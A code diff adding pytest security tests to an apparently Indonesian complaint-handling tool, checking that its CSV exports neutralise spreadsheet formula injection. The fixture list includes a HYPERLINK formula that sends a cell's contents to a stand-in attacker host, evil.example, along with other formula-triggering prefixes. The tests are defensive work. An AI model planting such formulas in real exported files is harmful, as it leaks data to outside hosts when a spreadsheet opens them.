@@ -116,3 +116,66 @@ def test_security_purged_text_is_gone_from_the_sqlite_files(tmp_path: Path):
         {"files searched": len(files), "files still holding the text": len(found)},
         "pytest tests/test_security_data.py -k gone_from",
     )
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A2, "klik")',
+    "+62 812 lampu padam",
+    "-1+1 sampah menumpuk",
+    "@SUM(1+1) jalan rusak",
+    "\t=1+1 bansos",
+    "\r=1+1 parkir liar",
+]
+
+
+def _cells(path: Path) -> list[str]:
+    import csv
+
+    with path.open(newline="", encoding="utf-8") as handle:
+        return [cell for row in csv.reader(handle) for cell in row]
+
+
+def test_security_feedback_export_csv_holds_no_live_formula(database_url, tmp_path):
+    from aduan.cli import app
+
+    upgrade(database_url)
+    store = Store(make_engine(database_url))
+    ids = store.save_requests([_request(text) for text in FORMULAS])
+    for rid in ids:
+        store.add_feedback(rid, category="PJU", agency="Dinas Perhubungan", operator="siti")
+    store.close()
+    output = tmp_path / "export.csv"
+    result = CliRunner().invoke(
+        app, ["feedback", "export", "--output", str(output), "--database-url", database_url]
+    )
+    assert result.exit_code == 0, result.output
+    cells = _cells(output)
+    live = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert live == []
+    assert {"'" + text for text in FORMULAS} <= set(cells)  # guarded, nothing else changed
+    record(
+        f"security_csv_formulas_{database_url.split(':')[0].split('+')[0]}",
+        "complaint texts starting with = + - @ tab or CR exported by `aduan feedback export` "
+        "to CSV: each cell starts with an apostrophe (a spreadsheet shows it as text)",
+        {"texts": len(FORMULAS), "live formula cells": len(live)},
+        "pytest tests/test_security_data.py -k formula",
+    )
+
+
+def test_security_batch_csv_output_holds_no_live_formula(tiny_model, tmp_path):
+    import pandas as pd
+
+    from aduan.cli import app
+
+    source = tmp_path / "in.csv"
+    pd.DataFrame({"id": FORMULAS, "text": ["lampu PJU padam gelap"] * len(FORMULAS)}).to_csv(
+        source, index=False
+    )
+    output = tmp_path / "out.csv"
+    result = CliRunner().invoke(
+        app, ["batch", "--model", str(tiny_model), "--input", str(source), "--output", str(output)]
+    )
+    assert result.exit_code == 0, result.output
+    cells = _cells(output)
+    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
+    assert "'" + FORMULAS[0] in cells
